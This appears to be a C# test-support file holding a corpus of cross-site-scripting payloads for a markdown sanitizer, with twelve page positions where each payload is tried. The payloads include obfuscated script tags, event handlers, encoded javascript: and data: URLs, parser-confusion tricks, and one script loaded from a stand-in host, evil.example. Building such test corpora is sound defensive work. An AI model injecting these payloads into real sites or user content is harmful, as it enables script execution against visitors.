namespace Site.TestSupport;

/// <summary>
/// Script-injection attempts a hostile contributor would paste into markdown, one per trick:
/// plain and obfuscated script elements, event handlers on every kind of element, script and data
/// URLs (entity-encoded, mixed case, with whitespace and control characters in the scheme),
/// elements that load or run other documents, parser confusion (unclosed attributes and comments,
/// foreign content, raw-text elements), CSS tricks, and markdown's own link, image, reference
/// and autolink syntax. <see cref="Positions"/> says where in a page each one is tried.
/// </summary>
internal static class XssCorpus
{
    public static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script>/*</script><script>*/alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"/assets/img/a.png\" onload=\"alert(1)\">",
        "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
        "<img src=javascript:alert(1)>",
        "<img src=`javascript:alert(1)`>",
        "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"x:expression(alert(1))\">x</p>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" \u0001javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"https://ok.example/\" onclick=\"alert(1)\">x</a>",
        "<a href=\"https://ok.example/\" onmouseover=alert(1)>x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea></textarea><script>alert(1)</script>",
        "<title></title><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<a title='x>unterminated <img src=x onerror=alert(1)>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<div onclick=alert(1)>",
        "</p><script>alert(1)</script><p>",
        "<<script>alert(1)//<</script>",
        "<a href=\"&{alert(1)}\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "[x](https://ok.example/ \"title\" onmouseover=alert(1))",
        "[x](/a \"\\\"><script>alert(1)</script>\")",
        "## Heading {#\"><script>alert(1)</script>}",
        "```\"><script>alert(1)</script>\nx\n```",
        "`<script>alert(1)</script>`",
    ];

    /// <summary>Where in a markdown body a payload is placed: {0} stands for the payload.</summary>
    public static readonly string[] Positions =
    [
        "{0}\n",
        "Text before {0} and after.\n",
        "> {0}\n",
        "- item {0}\n",
        "1. {0}\n",
        "| a | b |\n|---|---|\n| {0} | x |\n",
        "# {0}\n",
        "Text[^1].\n\n[^1]: {0}\n",
        "<details>\n<summary>{0}</summary>\n\n{0}\n\n</details>\n",
        "*emphasis {0}*\n",
        "[link {0}](/projects/linkerd/)\n",
        "中文{0}\n文字\n",
    ];

    /// <summary>Every payload in every position.</summary>
    public static IEnumerable<string> Bodies() =>
        from position in Positions
        from payload in Payloads
        select string.Format(System.Globalization.CultureInfo.InvariantCulture, position, payload);
}
